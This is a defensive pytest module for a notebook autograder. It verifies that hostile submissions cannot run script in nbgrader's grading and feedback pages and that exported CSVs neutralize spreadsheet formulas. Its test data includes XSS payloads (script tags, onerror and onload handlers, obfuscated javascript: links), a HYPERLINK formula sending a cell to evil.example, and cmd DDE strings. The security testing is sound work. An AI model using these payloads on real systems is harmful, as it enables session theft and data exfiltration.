"""What a submission can make the instructor's own tools do.

Nothing here runs student code. The hostile part is the file itself or a name: a notebook's
saved outputs, markdown, attachments and metadata, which nbgrader's formgrader and
``nbgrader generate_feedback`` render as a live page in the instructor's Jupyter session
(a script there can reach the server's API); or a student's folder name, a file name or an
error message that a spreadsheet opening a scores CSV would run as a formula.
docs/security.md ("The instructor's tools") maps each threat to a test here.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder import ROOT, exports
from autograder.autograded import write_autograded
from autograder.gradebook import StudentScores, comment_text
from dlcheck.results import SubmissionReport, TestResult
from dlcheck.text import Text

#: What every hostile payload calls; it must never reach a place a browser runs.
MARK = "pwned_instructor"
CALL = f"{MARK}(document.cookie)"
RELEASED = ROOT / "assignments/week2/logistic_regression.ipynb"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
TESTS = [TestResult("test_sigmoid", "sigmoid", 1.0, 1.0, True, Text("2 check(s) passed", "검사 2개 통과")),
         TestResult("test_propagate", "propagate", 0.0, 3.0, False, Text("cost is wrong", "cost가 틀렸습니다"))]


class _Runnable(HTMLParser):
    """What in a page a browser would run or load as code: script text, event handlers,
    ``javascript:`` and non-raster ``data:`` URLs, embedded documents."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        if tag in ("iframe", "object", "embed"):
            self.found.append(self.get_starttag_text())
        for name, value in attrs:
            value = re.sub(r"[\t\n\r]", "", value or "").strip()
            if name.startswith("on") and MARK in value:
                self.found.append(f"{tag} {name}={value[:80]}")
            if re.match(r"(?i)(javascript|vbscript):|data:(?!image/(png|jpeg|gif);)", value):
                self.found.append(f"{tag} {name}={value[:80]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and MARK in data:
            self.found.append(f"script: {data.strip()[:80]}")


def runnable(page: str) -> list[str]:
    parser = _Runnable()
    parser.feed(page)
    parser.close()
    return parser.found


def formgrader_page(copy: Path) -> str:
    """The page formgrader serves for ``copy`` (its ``SubmissionHandler``'s exporter)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    view = Config()
    view.HTMLExporter.template_name = "formgrade"
    view.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    page, _ = HTMLExporter(config=view).from_filename(
        str(copy), resources={"assignment_id": "week2", "notebook_id": "logistic_regression", "submission_id": "x",
                              "index": 0, "total": 1, "base_url": "", "student": "mallory", "last_name": None,
                              "first_name": None, "notebook_path": "x"})
    return page


def html_page(copy: Path) -> str:
    """What `jupyter nbconvert --to html` (JupyterLab's template) makes of ``copy``."""
    from nbconvert import HTMLExporter

    return HTMLExporter().from_filename(str(copy))[0]


def _output(**data: str):
    return new_output("display_data", data=data)


def _widgets(nb) -> None:
    model = "a" * 32
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
                           "state": {model: {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                                             "model_module_version": "2.0.0",
                                             "state": {"value": f"<img src=x onerror={CALL}>"}}}}}
    nb.cells.append(new_code_cell("w", outputs=[_output(**{
        "application/vnd.jupyter.widget-view+json": {"model_id": model, "version_major": 2, "version_minor": 0},
        "text/plain": "HTML(value='...')"})]))


def _svg_attachment(nb) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>"
    nb.cells.append(new_markdown_cell("![plot](attachment:plot.svg)", attachments={"plot.svg": {"image/svg+xml": svg}}))


def _raw_html(nb) -> None:
    nb.cells.append(new_raw_cell(f"<script>{CALL}</script>", metadata={"raw_mimetype": "text/html"}))


#: One hostile part of a notebook each, added to the released notebook.
HOSTILE = {
    "javascript-output": lambda nb: nb.cells.append(new_code_cell("x", outputs=[
        _output(**{"application/javascript": CALL, "text/plain": "<IPython.core.display.Javascript object>"})])),
    "html-output-script": lambda nb: nb.cells.append(new_code_cell("x", outputs=[
        _output(**{"text/html": f"<script>{CALL}</script>"})])),
    "html-output-img-onerror": lambda nb: nb.cells.append(new_code_cell("x", outputs=[
        new_output("execute_result", execution_count=3, data={"text/html": f"<img src=x onerror={CALL}>",
                                                                "text/plain": "<IPython.core.display.HTML>"})])),
    "markdown-output": lambda nb: nb.cells.append(new_code_cell("x", outputs=[
        _output(**{"text/markdown": f"<img src=x onerror={CALL}>"})])),
    "svg-output": lambda nb: nb.cells.append(new_code_cell("x", outputs=[
        _output(**{"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>"})])),
    "png-output-size": lambda nb: nb.cells.append(new_code_cell("x", outputs=[new_output(
        "display_data", data={"image/png": PNG}, metadata={"image/png": {"width": f"1 onerror={CALL}"}})])),
    "widget-state": _widgets,
    "markdown-img-onerror": lambda nb: nb.cells.append(new_markdown_cell(f"Look: <img src=x onerror={CALL}>")),
    "markdown-script": lambda nb: nb.cells.append(new_markdown_cell(f"<script>{CALL}</script>")),
    "markdown-svg": lambda nb: nb.cells.append(new_markdown_cell(f"<svg><animate onbegin={CALL} /></svg>")),
    "markdown-javascript-link": lambda nb: nb.cells.append(new_markdown_cell(f"[my answer](javascript:{CALL})")),
    "markdown-entity-link": lambda nb: nb.cells.append(new_markdown_cell(f"[my answer](jav&#97;script&colon;{CALL})")),
    "markdown-reference-link": lambda nb: nb.cells.append(new_markdown_cell(
        f"See [my answer][a].\n\n[a]: javascript:{CALL}")),
    "markdown-autolink": lambda nb: nb.cells.append(new_markdown_cell(f"<javascript:{CALL}>")),
    "markdown-html-link": lambda nb: nb.cells.append(new_markdown_cell(
        f'<a href="java\tscript:{CALL}">my answer</a>')),
    "svg-attachment": _svg_attachment,
}


@pytest.fixture
def autograded(tmp_path: Path):
    """``autograded(change)``: the autograded copy of the released notebook changed by ``change``."""
    def autograded(change) -> Path:
        nb = nbformat.read(RELEASED, as_version=4)
        change(nb)
        submitted = tmp_path / "submitted.ipynb"
        nbformat.write(nb, submitted)
        return write_autograded(tmp_path / "autograded" / "logistic_regression.ipynb", submitted, TESTS, lang="en")
    return autograded


@pytest.mark.nbgrader
@pytest.mark.parametrize("change", list(HOSTILE.values()), ids=list(HOSTILE))
def test_autograded_copy_runs_nothing_in_formgrader(change, autograded):
    """Can a notebook's outputs, markdown, attachments or metadata make the page formgrader
    shows the instructor (or nbconvert's HTML of the copy) run a script, or load one? And
    is our grading still on it?"""
    copy = autograded(change)
    page = formgrader_page(copy)
    assert runnable(page) == [] and runnable(html_page(copy)) == []
    assert 'id="test_propagate"' in page and 'id="propagate-comment"' in page


def test_autograded_copy_keeps_text_outputs_only(autograded):
    """Does the copy keep only the text of what the student's cells printed (and our
    verdicts), with no widget state, cell metadata or non-raster attachment left to render?"""
    def everything(nb):
        for change in (*HOSTILE.values(), _raw_html):
            change(nb)
        nb.cells.append(new_code_cell("print(1)", outputs=[new_output("stream", name="stdout", text="\x1b[31m1\x1b[0m\n")]))
    copy = nbformat.read(autograded(everything), as_version=4)
    assert set(copy.metadata) <= {"kernelspec", "language_info"}
    outputs = [o for c in copy.cells if c.cell_type == "code" for o in c.outputs]
    assert {o.output_type for o in outputs} <= {"stream", "error", "execute_result", "display_data"}
    assert all(set(o.get("data", {})) <= {"text/plain"} and not o.get("metadata") for o in outputs)
    assert "1\n" in [o.get("text") for o in outputs]
    assert ("stderr", "propagate: 0/3. cost is wrong\n") in [(o.get("name"), o.get("text")) for o in outputs]
    assert all(set(c.metadata) <= {"nbgrader"} for c in copy.cells)
    assert all(set(mime) <= {"image/png", "image/jpeg", "image/gif"}
               for c in copy.cells for mime in c.get("attachments", {}).values())


@pytest.mark.nbgrader
def test_a_missing_attachment_does_not_stop_formgrader(autograded):
    """Can a markdown cell naming an attachment the notebook lacks stop formgrader from
    showing the submission at all (nbconvert raises on it)?"""
    copy = autograded(lambda nb: nb.cells.append(new_markdown_cell("![plot](attachment:nowhere.png)")))
    assert 'id="test_propagate"' in formgrader_page(copy)


def test_gradebook_comment_runs_nothing_in_generate_feedback():
    """Can an exception message a function raised, written into its gradebook comment,
    run a script on the page `nbgrader generate_feedback` renders (it reads comments as
    markdown, raw HTML included)?"""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    raised = TestResult("test_sigmoid", "sigmoid", 0.0, 1.0, False,
                        Text(f"sigmoid: it raised ValueError: <img src=x onerror={CALL}>", "sigmoid: ValueError"))
    comment = comment_text(raised)
    assert runnable(markdown2html_mistune(comment)) == []
    assert "it raised ValueError" in comment


def test_the_class_page_runs_nothing_a_class_wrote():
    """Can a student id, a file name, a notebook's message, a reason a file was not graded
    or an isolation level recorded in the gradebook run a script on the class page
    (feedback/index.html), or escape into its markup?"""
    from autograder import review

    tag = f"<img src=x onerror={CALL}>"
    said = Text(f"propagate: it raised ValueError: {tag}", f"ValueError: {tag}")
    summary = review.ClassSummary(
        f"week2{tag}", totals=[(tag, 1.0)], max_score=10.0,
        functions=[review.FunctionStats(tag, tag, 0, 1, [(said, 1)])], not_handed_in={tag: [tag]},
        not_graded=[(tag, tag, said)], listed=[(tag, f"{tag}.ipynb", said)],
        same_code=[review.SameCode(tag, (tag, f"<script>{CALL}</script>"), False, (tag,))])
    summary.isolation[tag] += 1

    page = review.render_html(summary, "en")

    assert runnable(page) == []
    assert "<img" not in page and "<script" not in page
    assert page.count(f"&lt;img src=x onerror={CALL}&gt;") > 10


# -- CSV formula injection ------------------------------------------------------------------

#: Cells a spreadsheet would run as a formula (OWASP's list: = + - @, tab, carriage return).
FORMULAS = {
    "equals-hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"grades")',
    "plus-dde": "+1+cmd|' /C calc'!A0",
    "minus-dde": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-equals": "\t=1+1",
    "carriage-return-equals": "\r=1+1",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _course_row(student: str, score: float = 1.0) -> str:
    return exports.course_csv([StudentScores(student, {"logistic_regression": score}, {"logistic_regression": 10.0},
                                             "namespaces")])


def _reports_row(submission: str = "alice.ipynb", error: str | None = None, score: float = 1.0) -> str:
    tests = [TestResult("test_sigmoid", "sigmoid", score, 1.0, score == 1.0, Text("ok", "ok"))]
    return exports.reports_csv([SubmissionReport(submission, "week2/logistic_regression", tests, error=error,
                                                 isolation="namespaces")])


WHERE = {
    "student-id": lambda payload: _cells(_course_row(payload))[1][0],
    "file-name": lambda payload: _cells(_reports_row(submission=payload))[1][0],
    "error-message": lambda payload: _cells(_reports_row(error=payload))[1][5],
}


@pytest.mark.parametrize("where", list(WHERE.values()), ids=list(WHERE))
@pytest.mark.parametrize("payload", list(FORMULAS.values()), ids=list(FORMULAS))
def test_csv_cell_never_starts_a_formula(payload, where):
    """Is a student id, file name or error message that a spreadsheet would run as a formula
    written with a leading apostrophe, so it is read as text (a carriage return as a line
    feed, see below)?"""
    assert where(payload) == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize("name", ["alice\r=1+1", "alice\r\n=1+1", "alice\n=1+1"], ids=["cr", "crlf", "lf"])
def test_csv_line_break_in_a_cell_starts_no_row(name):
    """Can a line break inside a student id end the row, so that what follows it starts a
    row of its own with a formula?"""
    cells = _cells(_course_row(name))
    assert [row[0] for row in cells] == ["student", "alice\n=1+1"]


@pytest.mark.parametrize("score", [-1.0, -0.5, 0.0, 2.5], ids=["-1", "-0.5", "0", "2.5"])
def test_csv_numbers_stay_numbers(score):
    """Is a score, negative ones included (a manual -1), still written as a plain number?"""
    assert _cells(_course_row("alice", score))[1][1:3] == [f"{score:g}", f"{score:g}"]
    assert _cells(_reports_row(score=score))[1][2] == f"{score:g}"


@pytest.mark.subprocess
def test_autograde_grade_csv_neutralizes_a_file_name(tmp_path):
    """Does `autograde grade --format csv` write a file named like a formula as text?"""
    (tmp_path / "=1+1.ipynb").write_text("{}")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "--dev-secret", "--format", "csv", "=1+1.ipynb"],
                          capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert proc.returncode == 1, proc.stderr
    assert _cells(proc.stdout)[1][0] == "'=1+1.ipynb"


def test_every_csv_is_written_by_the_one_function_that_neutralizes():
    """Does any module write CSV other than through autograder.exports (whose one writer
    neutralizes formulas)?"""
    writers = [p.relative_to(ROOT) for folder in ("autograder", "dlcheck", "dldata", "examples", "benchmarks")
               for p in (ROOT / folder).rglob("*.py") if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert writers == [Path("autograder/exports.py")]


def test_docs_name_only_tests_and_cases_that_exist():
    """Does docs/security.md ("The instructor's tools") name only tests of this module and
    their cases, and every test of this module?"""
    section = (ROOT / "docs/security.md").read_text(encoding="utf-8").split("## The instructor's tools", 1)[1]
    section = section.split("\n## ", 1)[0]
    tests = {name for name in globals() if name.startswith("test_") and name != "test_docs_name_only_tests_and_cases_that_exist"}
    assert set(re.findall(r"`(test_\w+)", section)) == tests
    assert set(re.findall(r"\[([\w-]+)\]", section)) <= {*HOSTILE, "cr", "crlf"}
